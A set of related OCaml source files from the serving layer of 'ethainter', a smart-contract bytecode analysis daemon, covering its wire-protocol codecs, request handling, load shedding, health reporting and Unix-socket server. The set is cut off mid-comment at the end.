  | magic :: meta :: rest when magic = error_magic -> (
      let msg = String.concat "\n" rest in
      match String.split_on_char ' ' meta with
      | [ code; n ] -> (
          match int_of_string_opt n with
          | Some n
            when n >= 0 && String.length msg >= n + 1
                 && String.sub msg n (String.length msg - n) = "\n" -> (
              let msg = String.sub msg 0 n in
              match code with
              | "overloaded" when msg = "" -> Some Overloaded
              | "malformed" -> Some (Malformed msg)
              | _ -> None)
          | _ -> None)
      | _ -> None)
  | _ -> None

(* ---------------- stats ---------------- *)

type stats = (string * float) list

let stats_magic = "ethainter.serve.stats.v1"

let encode_stats (st : stats) : string =
  let b = Buffer.create 512 in
  Buffer.add_string b stats_magic;
  Buffer.add_char b '\n';
  List.iter (fun (k, v) -> Printf.bprintf b "%s %h\n" k v) st;
  Buffer.contents b

let decode_stats (s : string) : stats option =
  match String.split_on_char '\n' s with
  | magic :: lines when magic = stats_magic -> (
      try
        Some
          (List.filter_map
             (fun l ->
               if l = "" then None
               else
                 match String.index_opt l ' ' with
                 | None -> raise Exit
                 | Some i -> (
                     let k = String.sub l 0 i in
                     let v = String.sub l (i + 1) (String.length l - i - 1) in
                     if k = "" then raise Exit;
                     match float_of_string_opt v with
                     | Some f -> Some (k, f)
                     | None -> raise Exit))
             lines)
      with Exit -> None)
  | _ -> None
