(** The daemon's message layer: what travels inside {!Frame} payloads.

    Frame kinds discriminate message types; payloads are versioned
    self-describing text (the result codec's discipline). Analysis
    results reuse {!Ethainter_core.Pipeline.encode_result} verbatim —
    the wire format {e is} the disk format, so the PR 4 [error_kind]
    taxonomy survives the protocol boundary untouched, and the frame
    digest plus the result codec's own digest double-validate the hot
    response path.

    Protocol-level failures (as opposed to per-contract analysis
    failures, which arrive inside a well-formed result) are the
    {!server_error} class: [Overloaded] is the admission-control
    load-shed response — the queue is at its bound and the request was
    {e refused}, not delayed — and [Malformed] covers undecodable
    requests. *)

(** {1 Frame kinds} *)

val req_analyze : char
val req_stats : char
val req_ping : char

val req_watch : char
(** Look up a contract's status in the daemon's streaming index
    ([--watch] mode); answered with {!resp_watch}, or [Malformed] when
    no index is attached. *)

val req_index_stats : char
(** The streaming index's counters alone, as a {!stats} payload on
    {!resp_stats}; [Malformed] when no index is attached. *)

val req_health : char
(** Liveness/readiness probe: answered with {!resp_health} carrying a
    {!health} payload. Answered inline on the reader thread like
    [stats]/[ping], never load-shed — the probe must survive exactly
    the overload it exists to observe. *)

val resp_result : char
val resp_stats : char
val resp_error : char
val resp_pong : char
val resp_watch : char
val resp_health : char

(** {1 Requests} *)

type analyze = {
  a_hex : string;
      (** hex-encoded runtime bytecode (the dump format); malformed
          hex is a clean per-contract [Decode] failure in the result *)
  a_cfg : Ethainter_core.Config.t;
  a_timeout_s : float;  (** per-request deadline (PR 4 budget) *)
}

val encode_analyze : analyze -> string
val decode_analyze : string -> analyze option
(** Total: [None] on any corrupt, truncated or wrong-version payload. *)

(** {1 Watch (streaming-index lookup)} *)

val encode_watch : string -> string
(** Request payload: the contract address as hex text. *)

val decode_watch : string -> string option

(** A contract's standing in the daemon's streaming index — the wire
    mirror of [Index.status]. *)
type watch_status =
  | Watch_unknown      (** address never seen on the watched chain *)
  | Watch_pending of int
      (** queued for (re-)analysis at this block; no current verdict *)
  | Watch_destroyed    (** self-destructed; verdict dropped *)
  | Watch_quarantined of int
      (** the poison-pill breaker is open after this many consecutive
          failed analyses; a probe runs when the backoff expires *)
  | Watch_indexed of {
      wi_deployed : int;  (** block the contract entered the index *)
      wi_indexed : int;   (** chain head when the verdict landed *)
      wi_result : Ethainter_core.Pipeline.result;
    }

val encode_watch_status : watch_status -> string
val decode_watch_status : string -> watch_status option
(** Total; the nested verdict reuses the {!Ethainter_core.Pipeline}
    result codec verbatim (wire format = disk format, digest
    included). *)

(** {1 Health} *)

(** The daemon's own condition, for supervisors and load balancers —
    orthogonal to per-request errors. *)
type health =
  | Ready              (** serving normally *)
  | Degraded of string
      (** serving, but impaired — the string is a human-readable
          reason (open quarantine breakers, a degraded disk cache,
          journal write failures); supervisors may alert but should
          not restart *)
  | Draining
      (** shutdown requested: existing requests finish, new analysis
          work should go elsewhere *)

val encode_health : health -> string
val decode_health : string -> health option
(** Total: [None] on any corrupt, truncated or wrong-version payload. *)

(** {1 Protocol errors} *)

type server_error =
  | Overloaded
      (** admission control refused the request: the bounded queue is
          full — retry later; the request was never enqueued *)
  | Malformed of string
      (** the request payload did not decode *)

val error_code : server_error -> string
(** Stable token: ["overloaded"] / ["malformed"]. *)

val encode_error : server_error -> string
val decode_error : string -> server_error option

(** {1 Stats} *)

type stats = (string * float) list
(** Ordered counter snapshot (queue depth, cache hits, latency
    quantiles, ...); keys are stable identifiers, values numeric. *)

val encode_stats : stats -> string
val decode_stats : string -> stats option
(** Values roundtrip exactly ([%h] encoding). *)
