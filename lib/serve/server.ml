(* Daemon core. See server.mli for the contract. *)

module P = Ethainter_core.Pipeline
module S = Ethainter_core.Scheduler
module Telemetry = Ethainter_core.Telemetry

(* Ring buffer of recent request latencies (seconds), mutex-guarded;
   quantiles are computed on demand from a snapshot. 8192 samples is
   minutes of history at serving rates while keeping the sort cheap. *)
module Latency = struct
  type t = {
    mu : Mutex.t;
    samples : float array;
    mutable n : int;       (* total recorded (ring index = n mod size) *)
  }

  let size = 8192

  let create () =
    { mu = Mutex.create (); samples = Array.make size 0.0; n = 0 }

  let record t s =
    Mutex.lock t.mu;
    t.samples.(t.n mod size) <- s;
    t.n <- t.n + 1;
    Mutex.unlock t.mu

  (* (count, p50, p99) over the retained window; zeros before any
     sample. *)
  let quantiles t =
    Mutex.lock t.mu;
    let k = min t.n size in
    let snap = Array.sub t.samples 0 k in
    let n = t.n in
    Mutex.unlock t.mu;
    if k = 0 then (n, 0.0, 0.0)
    else begin
      Array.sort compare snap;
      let at q =
        snap.(min (k - 1) (int_of_float (Float.of_int (k - 1) *. q +. 0.5)))
      in
      (n, at 0.5, at 0.99)
    end
end

(* How a daemon running in --watch mode plugs its streaming index into
   the serving loop. The server cannot depend on lib/index (the index
   depends on core, like this library — the daemon wires the two
   together), so the coupling is two closures: both are cheap
   mutex-guarded lookups, answered inline on the reader thread like
   stats/ping, bypassing the analysis queue. *)
type index_handlers = {
  h_watch : string -> Proto.watch_status;
      (* argument: the contract address as hex text, unparsed *)
  h_index_stats : unit -> Proto.stats;
}

type t = {
  pool : S.Pool.t;
  index : index_handlers option Atomic.t;
  default_timeout_s : float;
  started_at : float;
  latency : Latency.t;
  (* request counters, read by the stats endpoint while reader threads
     and worker domains write them: Atomic, per the PR 6 counter
     audit *)
  served_ok : int Atomic.t;       (* results with no error field *)
  served_failed : int Atomic.t;   (* results carrying a classified error *)
  served_shed : int Atomic.t;     (* overloaded responses *)
  served_malformed : int Atomic.t;
  served_stats : int Atomic.t;
  served_ping : int Atomic.t;
  served_health : int Atomic.t;
  stop_flag : bool Atomic.t;
  (* self-pipe: [request_stop] writes one byte to [wake_w] to wake the
     accept loop's select portably (closing or shutting down a
     listening socket another thread is blocked in accept on only
     works on Linux) *)
  wake_r : Unix.file_descr;
  wake_w : Unix.file_descr;
}

let create ?workers ?(queue_depth = 64) ?(default_timeout_s = 120.0) () =
  P.prewarm ();
  let wake_r, wake_w = Unix.pipe ~cloexec:true () in
  { pool = S.Pool.create ?workers ~queue_depth ();
    index = Atomic.make None;
    default_timeout_s;
    started_at = Unix.gettimeofday ();
    latency = Latency.create ();
    served_ok = Atomic.make 0;
    served_failed = Atomic.make 0;
    served_shed = Atomic.make 0;
    served_malformed = Atomic.make 0;
    served_stats = Atomic.make 0;
    served_ping = Atomic.make 0;
    served_health = Atomic.make 0;
    stop_flag = Atomic.make false;
    wake_r;
    wake_w }

let stopped t = Atomic.get t.stop_flag
let pool t = t.pool
let set_index_handlers t h = Atomic.set t.index h

(* ---------------- stats ---------------- *)

let stats_snapshot t : Proto.stats =
  let ps = S.Pool.stats t.pool in
  let n, p50, p99 = Latency.quantiles t.latency in
  [ ("uptime_s", Unix.gettimeofday () -. t.started_at);
    ("queue_capacity", float_of_int ps.S.Pool.p_capacity);
    ("queue_depth", float_of_int ps.S.Pool.p_depth);
    ("queue_running", float_of_int ps.S.Pool.p_running);
    ("queue_submitted", float_of_int ps.S.Pool.p_submitted);
    ("queue_completed", float_of_int ps.S.Pool.p_completed);
    ("queue_shed", float_of_int ps.S.Pool.p_shed);
    ("workers", float_of_int ps.S.Pool.p_workers);
    ("served_ok", float_of_int (Atomic.get t.served_ok));
    ("served_failed", float_of_int (Atomic.get t.served_failed));
    ("served_shed", float_of_int (Atomic.get t.served_shed));
    ("served_malformed", float_of_int (Atomic.get t.served_malformed));
    ("served_stats", float_of_int (Atomic.get t.served_stats));
    ("served_ping", float_of_int (Atomic.get t.served_ping));
    ("served_health", float_of_int (Atomic.get t.served_health));
    ("latency_count", float_of_int n);
    ("latency_p50_ms", 1000.0 *. p50);
    ("latency_p99_ms", 1000.0 *. p99) ]
  (* everything below the serving layer — caches, intern, Datalog
     plans, scheduler retries, and any registered source such as the
     streaming index — comes from the one telemetry surface *)
  @ Telemetry.to_pairs (Telemetry.capture ())

(* ---------------- health ---------------- *)

(* Computed fresh per probe from already-maintained state — there is
   no cached health to go stale. Priority: a requested stop dominates
   (supervisors should route work away even if nothing else is wrong);
   otherwise any impairment downgrades Ready to Degraded with every
   reason concatenated, so one alert shows the whole picture. *)
let health t : Proto.health =
  if stopped t then Proto.Draining
  else begin
    let reasons = ref [] in
    let add r = reasons := r :: !reasons in
    let q = S.Quarantine.stats () in
    if q.S.Quarantine.q_open > 0 then
      add
        (Printf.sprintf "%d contract(s) quarantined (breaker open)"
           q.S.Quarantine.q_open);
    if P.disk_cache_degraded () then
      add "disk cache degraded (running memory-only)";
    (match Atomic.get t.index with
    | None -> ()
    | Some h -> (
        let st = try h.h_index_stats () with _ -> [] in
        match List.assoc_opt "index_journal_errors" st with
        | Some e when e > 0.0 ->
            add
              (Printf.sprintf "index journal degraded (%.0f write failures)"
                 e)
        | _ -> ()));
    match List.rev !reasons with
    | [] -> Proto.Ready
    | rs -> Proto.Degraded (String.concat "; " rs)
  end

(* ---------------- connection serving ---------------- *)

(* Per-connection state shared between the reader thread and the
   worker domains carrying its analyze jobs. [wmu] keeps interleaved
   frames whole and guards [inflight]; the reader waits for
   [inflight] to drain before serve_split returns, so the fd cannot
   be closed while a worker still holds it — a recycled descriptor
   number would otherwise deliver this connection's response into an
   unrelated client's stream. *)
type conn = {
  c_fd : Unix.file_descr;        (* write side *)
  c_wmu : Mutex.t;
  c_drained : Condition.t;       (* signalled when inflight hits 0 *)
  mutable c_inflight : int;      (* analyze jobs queued or running *)
}

(* Worker domains and the reader thread interleave responses on one
   fd; the write mutex keeps frames whole. A peer that vanished
   mid-response (EPIPE, reset) is not an error worth propagating: the
   analysis result is already in the cache for its next attempt. *)
let respond c ~kind ~id payload =
  Mutex.lock c.c_wmu;
  Fun.protect
    ~finally:(fun () -> Mutex.unlock c.c_wmu)
    (fun () -> try Frame.write c.c_fd ~kind ~id payload with _ -> ())

let job_begin c =
  Mutex.lock c.c_wmu;
  c.c_inflight <- c.c_inflight + 1;
  Mutex.unlock c.c_wmu

let job_end c =
  Mutex.lock c.c_wmu;
  c.c_inflight <- c.c_inflight - 1;
  if c.c_inflight = 0 then Condition.broadcast c.c_drained;
  Mutex.unlock c.c_wmu

let handle_analyze t c ~id (a : Proto.analyze) =
  let req =
    P.request ~cfg:a.Proto.a_cfg
      ~timeout_s:(Float.min a.Proto.a_timeout_s t.default_timeout_s)
      (P.Hex a.Proto.a_hex)
  in
  let t_enq = Unix.gettimeofday () in
  let job () =
    (* job_end only after the response is written: the fd stays open
       until every job for this connection has finished with it *)
    Fun.protect
      ~finally:(fun () -> job_end c)
      (fun () ->
        (* total: classified errors come back inside the result *)
        let r = S.analyze_request req in
        Latency.record t.latency (Unix.gettimeofday () -. t_enq);
        Atomic.incr
          (if r.P.error = None then t.served_ok else t.served_failed);
        respond c ~kind:Proto.resp_result ~id (P.encode_result r))
  in
  (* count the job before submit: once accepted it may start (and
     finish) on a worker immediately *)
  job_begin c;
  if not (S.Pool.submit t.pool job) then begin
    (* load shed: answered by the reader thread itself, at constant
       cost — the queue is full and this request was never in it *)
    job_end c;
    Atomic.incr t.served_shed;
    respond c ~kind:Proto.resp_error ~id
      (Proto.encode_error Proto.Overloaded)
  end

let handle_frame t c ~kind ~id payload =
  if kind = Proto.req_analyze then
    match Proto.decode_analyze payload with
    | Some a -> handle_analyze t c ~id a
    | None ->
        Atomic.incr t.served_malformed;
        respond c ~kind:Proto.resp_error ~id
          (Proto.encode_error (Proto.Malformed "undecodable analyze request"))
  else if kind = Proto.req_stats then begin
    Atomic.incr t.served_stats;
    respond c ~kind:Proto.resp_stats ~id
      (Proto.encode_stats (stats_snapshot t))
  end
  else if kind = Proto.req_ping then begin
    Atomic.incr t.served_ping;
    respond c ~kind:Proto.resp_pong ~id ""
  end
  else if kind = Proto.req_health then begin
    Atomic.incr t.served_health;
    respond c ~kind:Proto.resp_health ~id
      (Proto.encode_health (health t))
  end
  else if kind = Proto.req_watch then begin
    (* answered inline, like stats: an index lookup is a mutex-guarded
       hash probe, no reason to ride the analysis queue *)
    match (Atomic.get t.index, Proto.decode_watch payload) with
    | Some h, Some addr ->
        Atomic.incr t.served_stats;
        let status =
          try h.h_watch addr
          with _ -> Proto.Watch_unknown
        in
        respond c ~kind:Proto.resp_watch ~id
          (Proto.encode_watch_status status)
    | None, _ ->
        Atomic.incr t.served_malformed;
        respond c ~kind:Proto.resp_error ~id
          (Proto.encode_error
             (Proto.Malformed "watch mode not enabled (no index attached)"))
    | Some _, None ->
        Atomic.incr t.served_malformed;
        respond c ~kind:Proto.resp_error ~id
          (Proto.encode_error (Proto.Malformed "undecodable watch request"))
  end
  else if kind = Proto.req_index_stats then begin
    match Atomic.get t.index with
    | Some h ->
        Atomic.incr t.served_stats;
        let st = try h.h_index_stats () with _ -> [] in
        respond c ~kind:Proto.resp_stats ~id (Proto.encode_stats st)
    | None ->
        Atomic.incr t.served_malformed;
        respond c ~kind:Proto.resp_error ~id
          (Proto.encode_error
             (Proto.Malformed "watch mode not enabled (no index attached)"))
  end
  else begin
    Atomic.incr t.served_malformed;
    respond c ~kind:Proto.resp_error ~id
      (Proto.encode_error
         (Proto.Malformed (Printf.sprintf "unknown request kind %C" kind)))
  end

(* Reading and writing race on [fd] by design (pipelining); only reads
   happen here. A framing error is unrecoverable — after a corrupt
   length prefix there is no resync point — so the reader answers once
   (id 0: the real id is untrustworthy) and stops reading. Returns
   only once every in-flight job has written its response, so the
   caller may close the fds immediately. *)
let serve_split t ~rfd ~wfd =
  let c =
    { c_fd = wfd;
      c_wmu = Mutex.create ();
      c_drained = Condition.create ();
      c_inflight = 0 }
  in
  let rec loop () =
    if not (stopped t) then
      match Frame.read rfd with
      | Ok (kind, id, payload) ->
          handle_frame t c ~kind ~id payload;
          loop ()
      | Error `Eof -> ()
      | Error (`Frame e) ->
          Atomic.incr t.served_malformed;
          respond c ~kind:Proto.resp_error ~id:0
            (Proto.encode_error (Proto.Malformed (Frame.error_to_string e)))
  in
  (try loop () with _ -> ());
  (* drain: queued jobs run even during pool shutdown, and every job
     is deadline-bounded, so this terminates *)
  Mutex.lock c.c_wmu;
  while c.c_inflight > 0 do
    Condition.wait c.c_drained c.c_wmu
  done;
  Mutex.unlock c.c_wmu

let serve_connection t fd = serve_split t ~rfd:fd ~wfd:fd

let serve_stdio t = serve_split t ~rfd:Unix.stdin ~wfd:Unix.stdout

(* One accept attempt on a nonblocking listener known readable.
   Transient errors must not kill the loop: EINTR/ECONNABORTED (and
   EAGAIN — the connection vanished between select and accept) mean
   "nothing to accept after all"; EMFILE/ENFILE is fd exhaustion, i.e.
   load, so back off briefly and let the listen backlog queue new
   connections until descriptors free up. Anything else also gets a
   brief pause so a persistent error cannot spin the loop — only
   [stop] ends accepting. *)
let accept_one t sock =
  match Unix.accept ~cloexec:true sock with
  | exception
      Unix.Unix_error
        ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR | Unix.ECONNABORTED), _, _)
    ->
      ()
  | exception Unix.Unix_error _ -> Unix.sleepf 0.05
  | fd, _ ->
      if stopped t then (try Unix.close fd with _ -> ())
      else begin
        (* accepted fds do not reliably inherit the listener's
           nonblocking flag — the frame transport wants blocking *)
        (try Unix.clear_nonblock fd with _ -> ());
        ignore
          (Thread.create
             (fun () ->
               serve_connection t fd;
               (* serve_connection drains in-flight jobs before
                  returning: no worker still holds this fd *)
               try Unix.close fd with _ -> ())
             ())
      end

let serve_unix_socket t ~path =
  let sock = Unix.socket ~cloexec:true Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  (try Unix.unlink path with Unix.Unix_error _ -> ());
  Unix.bind sock (Unix.ADDR_UNIX path);
  Unix.listen sock 64;
  (* Nonblocking listener behind select, with the self-pipe in the
     read set: [request_stop]'s wake byte interrupts the wait on any
     platform (waking a thread blocked in plain accept by closing or
     shutting down the socket is Linux-specific). The loop owns the
     listener and closes it itself on exit — no cross-thread close. *)
  Unix.set_nonblock sock;
  let rec accept_loop () =
    if not (stopped t) then begin
      (match Unix.select [ sock; t.wake_r ] [] [] (-1.0) with
      | exception Unix.Unix_error (Unix.EINTR, _, _) -> ()
      | ready, _, _ ->
          if List.memq sock ready && not (stopped t) then accept_one t sock);
      accept_loop ()
    end
  in
  accept_loop ();
  (try Unix.close sock with _ -> ());
  (try Unix.unlink path with Unix.Unix_error _ -> ())

(* Minimal by design: one Atomic.exchange and one pipe write, no
   mutex, no join — safe to call from a signal handler (where locking
   a mutex the interrupted thread already holds would self-deadlock)
   while worker domains and reader threads run. *)
let request_stop t =
  if not (Atomic.exchange t.stop_flag true) then begin
    let rec nudge () =
      try ignore (Unix.write t.wake_w (Bytes.make 1 '!') 0 1) with
      | Unix.Unix_error (Unix.EINTR, _, _) -> nudge ()
      | _ -> ()
    in
    nudge ()
  end

let stop t =
  request_stop t;
  (* drain-and-join; idempotent. Never call from a signal handler —
     use [request_stop] there and [stop] on the main thread once the
     serve loop returns. *)
  S.Pool.shutdown t.pool
