(* Daemon core. See server.mli for the contract. *)

module P = Ethainter_core.Pipeline
module S = Ethainter_core.Scheduler
module Cache = Ethainter_core.Cache
module D = Ethainter_datalog.Datalog
module I = Ethainter_runtime.Intern

(* Ring buffer of recent request latencies (seconds), mutex-guarded;
   quantiles are computed on demand from a snapshot. 8192 samples is
   minutes of history at serving rates while keeping the sort cheap. *)
module Latency = struct
  type t = {
    mu : Mutex.t;
    samples : float array;
    mutable n : int;       (* total recorded (ring index = n mod size) *)
  }

  let size = 8192

  let create () =
    { mu = Mutex.create (); samples = Array.make size 0.0; n = 0 }

  let record t s =
    Mutex.lock t.mu;
    t.samples.(t.n mod size) <- s;
    t.n <- t.n + 1;
    Mutex.unlock t.mu

  (* (count, p50, p99) over the retained window; zeros before any
     sample. *)
  let quantiles t =
    Mutex.lock t.mu;
    let k = min t.n size in
    let snap = Array.sub t.samples 0 k in
    let n = t.n in
    Mutex.unlock t.mu;
    if k = 0 then (n, 0.0, 0.0)
    else begin
      Array.sort compare snap;
      let at q =
        snap.(min (k - 1) (int_of_float (Float.of_int (k - 1) *. q +. 0.5)))
      in
      (n, at 0.5, at 0.99)
    end
end

type t = {
  pool : S.Pool.t;
  default_timeout_s : float;
  started_at : float;
  latency : Latency.t;
  (* request counters, read by the stats endpoint while reader threads
     and worker domains write them: Atomic, per the PR 6 counter
     audit *)
  served_ok : int Atomic.t;       (* results with no error field *)
  served_failed : int Atomic.t;   (* results carrying a classified error *)
  served_shed : int Atomic.t;     (* overloaded responses *)
  served_malformed : int Atomic.t;
  served_stats : int Atomic.t;
  served_ping : int Atomic.t;
  stop_flag : bool Atomic.t;
  (* the listening socket, when serve_unix_socket is active: stop
     closes it to break the accept loop *)
  listener : Unix.file_descr option Atomic.t;
}

let create ?workers ?(queue_depth = 64) ?(default_timeout_s = 120.0) () =
  P.prewarm ();
  { pool = S.Pool.create ?workers ~queue_depth ();
    default_timeout_s;
    started_at = Unix.gettimeofday ();
    latency = Latency.create ();
    served_ok = Atomic.make 0;
    served_failed = Atomic.make 0;
    served_shed = Atomic.make 0;
    served_malformed = Atomic.make 0;
    served_stats = Atomic.make 0;
    served_ping = Atomic.make 0;
    stop_flag = Atomic.make false;
    listener = Atomic.make None }

let stopped t = Atomic.get t.stop_flag

(* ---------------- stats ---------------- *)

let cache_entries prefix (s : Cache.stats) =
  [ (prefix ^ "_hits", float_of_int s.Cache.hits);
    (prefix ^ "_disk_hits", float_of_int s.Cache.disk_hits);
    (prefix ^ "_misses", float_of_int s.Cache.misses);
    (prefix ^ "_rejected", float_of_int s.Cache.rejected);
    (prefix ^ "_evictions", float_of_int s.Cache.evictions);
    (prefix ^ "_io_errors", float_of_int s.Cache.io_errors);
    (prefix ^ "_size", float_of_int s.Cache.size) ]

let stats_snapshot t : Proto.stats =
  let ps = S.Pool.stats t.pool in
  let n, p50, p99 = Latency.quantiles t.latency in
  let ds = D.stats () in
  let it = I.stats () in
  [ ("uptime_s", Unix.gettimeofday () -. t.started_at);
    ("queue_capacity", float_of_int ps.S.Pool.p_capacity);
    ("queue_depth", float_of_int ps.S.Pool.p_depth);
    ("queue_running", float_of_int ps.S.Pool.p_running);
    ("queue_submitted", float_of_int ps.S.Pool.p_submitted);
    ("queue_completed", float_of_int ps.S.Pool.p_completed);
    ("queue_shed", float_of_int ps.S.Pool.p_shed);
    ("workers", float_of_int ps.S.Pool.p_workers);
    ("served_ok", float_of_int (Atomic.get t.served_ok));
    ("served_failed", float_of_int (Atomic.get t.served_failed));
    ("served_shed", float_of_int (Atomic.get t.served_shed));
    ("served_malformed", float_of_int (Atomic.get t.served_malformed));
    ("served_stats", float_of_int (Atomic.get t.served_stats));
    ("served_ping", float_of_int (Atomic.get t.served_ping));
    ("latency_count", float_of_int n);
    ("latency_p50_ms", 1000.0 *. p50);
    ("latency_p99_ms", 1000.0 *. p99) ]
  @ cache_entries "cache_fe" (P.frontend_cache_stats ())
  @ cache_entries "cache_be" (P.cache_stats ())
  @ [ ("intern_interned", float_of_int it.I.interned);
      ("intern_local_hits", float_of_int it.I.local_hits);
      ("intern_shared_hits", float_of_int it.I.shared_hits);
      ("intern_inserts", float_of_int it.I.inserts);
      ("datalog_plans_built", float_of_int ds.D.plans_built);
      ("datalog_plan_reuses", float_of_int ds.D.plan_reuses) ]

(* ---------------- connection serving ---------------- *)

(* Worker domains and the reader thread interleave responses on one
   fd; the write mutex keeps frames whole. A peer that vanished
   mid-response (EPIPE, reset) is not an error worth propagating: the
   analysis result is already in the cache for its next attempt. *)
let respond wmu fd ~kind ~id payload =
  Mutex.lock wmu;
  Fun.protect
    ~finally:(fun () -> Mutex.unlock wmu)
    (fun () -> try Frame.write fd ~kind ~id payload with _ -> ())

let handle_analyze t wmu fd ~id (a : Proto.analyze) =
  let req =
    P.request ~cfg:a.Proto.a_cfg
      ~timeout_s:(Float.min a.Proto.a_timeout_s t.default_timeout_s)
      (P.Hex a.Proto.a_hex)
  in
  let t_enq = Unix.gettimeofday () in
  let job () =
    (* total: classified errors come back inside the result *)
    let r = S.analyze_request req in
    Latency.record t.latency (Unix.gettimeofday () -. t_enq);
    Atomic.incr
      (if r.P.error = None then t.served_ok else t.served_failed);
    respond wmu fd ~kind:Proto.resp_result ~id (P.encode_result r)
  in
  if not (S.Pool.submit t.pool job) then begin
    (* load shed: answered by the reader thread itself, at constant
       cost — the queue is full and this request was never in it *)
    Atomic.incr t.served_shed;
    respond wmu fd ~kind:Proto.resp_error ~id
      (Proto.encode_error Proto.Overloaded)
  end

let handle_frame t wmu fd ~kind ~id payload =
  if kind = Proto.req_analyze then
    match Proto.decode_analyze payload with
    | Some a -> handle_analyze t wmu fd ~id a
    | None ->
        Atomic.incr t.served_malformed;
        respond wmu fd ~kind:Proto.resp_error ~id
          (Proto.encode_error (Proto.Malformed "undecodable analyze request"))
  else if kind = Proto.req_stats then begin
    Atomic.incr t.served_stats;
    respond wmu fd ~kind:Proto.resp_stats ~id
      (Proto.encode_stats (stats_snapshot t))
  end
  else if kind = Proto.req_ping then begin
    Atomic.incr t.served_ping;
    respond wmu fd ~kind:Proto.resp_pong ~id ""
  end
  else begin
    Atomic.incr t.served_malformed;
    respond wmu fd ~kind:Proto.resp_error ~id
      (Proto.encode_error
         (Proto.Malformed (Printf.sprintf "unknown request kind %C" kind)))
  end

(* Reading and writing race on [fd] by design (pipelining); only reads
   happen here. A framing error is unrecoverable — after a corrupt
   length prefix there is no resync point — so the reader answers once
   (id 0: the real id is untrustworthy) and stops reading. *)
let serve_split t ~rfd ~wfd =
  let wmu = Mutex.create () in
  let rec loop () =
    if not (stopped t) then
      match Frame.read rfd with
      | Ok (kind, id, payload) ->
          handle_frame t wmu wfd ~kind ~id payload;
          loop ()
      | Error `Eof -> ()
      | Error (`Frame e) ->
          Atomic.incr t.served_malformed;
          respond wmu wfd ~kind:Proto.resp_error ~id:0
            (Proto.encode_error (Proto.Malformed (Frame.error_to_string e)))
  in
  try loop () with _ -> ()

let serve_connection t fd = serve_split t ~rfd:fd ~wfd:fd

let serve_stdio t = serve_split t ~rfd:Unix.stdin ~wfd:Unix.stdout

let serve_unix_socket t ~path =
  let sock = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  (try Unix.unlink path with Unix.Unix_error _ -> ());
  Unix.bind sock (Unix.ADDR_UNIX path);
  Unix.listen sock 64;
  Atomic.set t.listener (Some sock);
  let rec accept_loop () =
    match Unix.accept sock with
    | exception Unix.Unix_error _ -> ()  (* stop closed the listener *)
    | exception _ -> ()
    | fd, _ ->
        if stopped t then (try Unix.close fd with _ -> ())
        else
          ignore
            (Thread.create
               (fun () ->
                 serve_connection t fd;
                 try Unix.close fd with _ -> ())
               ());
        if not (stopped t) then accept_loop ()
  in
  accept_loop ();
  (match Atomic.exchange t.listener None with
  | Some fd -> ( try Unix.close fd with _ -> ())
  | None -> ());
  (try Unix.unlink path with Unix.Unix_error _ -> ())

let stop t =
  if not (Atomic.exchange t.stop_flag true) then begin
    (match Atomic.exchange t.listener None with
    | Some fd ->
        (* shutdown wakes a thread blocked in accept; then close *)
        (try Unix.shutdown fd Unix.SHUTDOWN_RECEIVE with _ -> ());
        (try Unix.close fd with _ -> ())
    | None -> ());
    S.Pool.shutdown t.pool
  end
