(** [ethainterd]'s core: a long-running analysis service over the
    {!Frame}/{!Proto} protocol.

    One server owns one persistent {!Ethainter_core.Scheduler.Pool}:
    requests decoded from connections are submitted to its bounded
    queue and analyzed on its worker domains via
    [Scheduler.analyze_request] — so responses are byte-identical to a
    direct call, every analysis shares the process-wide phase-split
    cache, intern table and compiled Datalog plans (warm across
    requests and connections), and failures arrive as classified
    results, never as dead connections.

    Admission control: a request arriving while the queue is at its
    bound is answered immediately with the [overloaded] protocol error
    — load past capacity is shed at constant latency instead of
    queueing into latency collapse. [stats] and [ping] requests are
    answered inline by the connection's reader thread, bypassing the
    queue, so observability survives overload.

    Concurrency: one reader thread per connection (blocking frame
    reads), analysis on the pool's domains, responses interleaved on
    the connection under a per-connection write lock. Responses to
    pipelined requests may arrive out of order; clients match on the
    echoed frame id. *)

type t

(** The daemon's [--watch] coupling: how a streaming index (lib/index,
    which this library must not depend on — both sit above core) plugs
    into the serving loop. Both closures are answered inline on
    connection reader threads, bypassing the analysis queue, so they
    must be cheap and thread-safe (index lookups are). An exception
    from [h_watch] degrades to [Watch_unknown], from [h_index_stats]
    to an empty stats list — never a dead connection. *)
type index_handlers = {
  h_watch : string -> Proto.watch_status;
      (** receives the request's address as hex text, unparsed *)
  h_index_stats : unit -> Proto.stats;
}

val create :
  ?workers:int -> ?queue_depth:int -> ?default_timeout_s:float -> unit -> t
(** [workers]/[queue_depth] size the pool (defaults:
    {!Ethainter_core.Scheduler.default_workers}, 64).
    [default_timeout_s] (default 120 s, the paper's cutoff) caps each
    request's deadline: a request asking for more is clamped, so one
    client cannot opt out of the serving budget. Also {!prewarms} the
    pipeline caches. *)

val pool : t -> Ethainter_core.Scheduler.Pool.t
(** The server's persistent worker pool — exposed so a co-resident
    subsystem (the [--watch] daemon's streaming index) schedules its
    re-analyses on the {e same} domains and admission-control queue as
    client requests, instead of spawning a second pool. *)

val set_index_handlers : t -> index_handlers option -> unit
(** Attach (or detach, [None]) the streaming index. Until attached,
    [watch]/[index_stats] requests are answered with the [malformed]
    protocol error ("watch mode not enabled"). Safe to call while
    serving. *)

val serve_connection : t -> Unix.file_descr -> unit
(** Serve one established connection (socketpair, accepted socket, or
    any stream fd) until the peer closes or a framing error makes the
    byte stream unrecoverable (a length-prefixed stream cannot resync
    after corruption: an error response is attempted, then the
    connection is dropped). Never raises; never closes [fd] (the
    caller owns it). Blocks the calling thread, and returns only once
    every in-flight job for this connection has written its response
    — the caller may close [fd] immediately on return without racing
    a worker domain against a recycled descriptor number. *)

val serve_stdio : t -> unit
(** {!serve_connection} reading stdin / writing stdout. *)

val serve_unix_socket : t -> path:string -> unit
(** Bind and listen on a Unix-domain socket at [path] (an existing
    socket file is replaced), accepting until {!stop}; each accepted
    connection gets a reader thread. Blocks the calling thread. *)

val health : t -> Proto.health
(** The health endpoint's verdict, computed fresh per call from live
    state: [Draining] once {!request_stop} has been called (dominates
    everything — supervisors should route work away); otherwise
    [Degraded] with a combined human-readable reason when any
    quarantine breaker is open
    ({!Ethainter_core.Scheduler.Quarantine}), the analysis disk cache
    has degraded to memory-only
    ({!Ethainter_core.Pipeline.disk_cache_degraded}), or an attached
    index reports journal write failures ([index_journal_errors] > 0);
    else [Ready]. Cheap and thread-safe — also served over the wire as
